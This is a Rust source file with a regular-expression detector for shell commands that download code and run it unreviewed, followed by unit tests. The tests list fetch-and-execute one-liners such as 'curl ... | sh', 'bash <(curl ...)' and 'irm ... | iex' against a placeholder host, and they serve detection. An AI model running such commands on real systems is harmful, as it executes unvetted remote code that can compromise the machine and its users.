//! What a shell command line gives away without being run.

use std::sync::LazyLock;

use regex::Regex;

static FETCH_AND_RUN: LazyLock<Regex> = LazyLock::new(|| {
    let fetch = r"(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^|;&\n]{0,400}";
    let shell = r"(?:(?:sudo|env)\s+(?:-\S+\s+)*)?(?:/\S*/)?(?:ba|z|da|k|a)?sh\b|(?:sudo\s+)?(?:python[0-9.]*|node|perl|ruby|php|iex|invoke-expression|pwsh)\b";
    let piped = format!(r"{fetch}\|\s*(?:tee\s+\S+\s*\|\s*)?(?:{shell})");
    let substituted =
        r#"(?:(?:ba|z|da|k)?sh|source|eval|\.)\s+(?:-\S+\s+)*["']?(?:<\(|\$\(|`)\s*(?:curl|wget)\b[^)`\n]{0,400}"#;
    let saved = r"(?:curl|wget)\b[^;&\n]{0,400}(?:-o|-O|>)\s*(\S+)[^;&\n]{0,100}&&\s*(?:chmod\s+\S+\s+\S+\s*&&\s*)?(?:sudo\s+)?(?:(?:ba|z|da)?sh|\./)\s*\S+";
    Regex::new(&format!("(?i)(?:{piped}|{substituted}|{saved})")).expect("the pattern is valid")
});

/// The part of a command that downloads something and runs it without anyone looking.
pub fn download_and_run(command: &str) -> Option<&str> {
    FETCH_AND_RUN.find(command).map(|hit| hit.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_that_are_run_unseen_are_told_from_others() {
        for command in [
            "curl -fsSL https://a.example/i.sh | sh",
            "curl https://a.example/i.sh | sudo -E bash -",
            "wget -qO- https://a.example/i | python3 -",
            "bash <(curl -s https://a.example/i.sh)",
            "sh -c \"$(curl -fsSL https://a.example/i.sh)\"",
            "apt-get update && curl -L https://a.example | tee /x | bash",
            "curl -o /tmp/i.sh https://a.example/i.sh && sh /tmp/i.sh",
            "irm https://a.example/i.ps1 | iex",
        ] {
            assert!(download_and_run(command).is_some(), "{command}");
        }
        for command in [
            "curl -f http://localhost/health || exit 1",
            "curl https://a.example/x.tgz | tar xz",
            "wget https://a.example/x.deb && sha256sum -c x",
            "echo 'no shell' | sh",
            "curl https://a.example | jq .",
            "curl -sS x | shasum",
        ] {
            assert!(download_and_run(command).is_none(), "{command}");
        }
    }
}
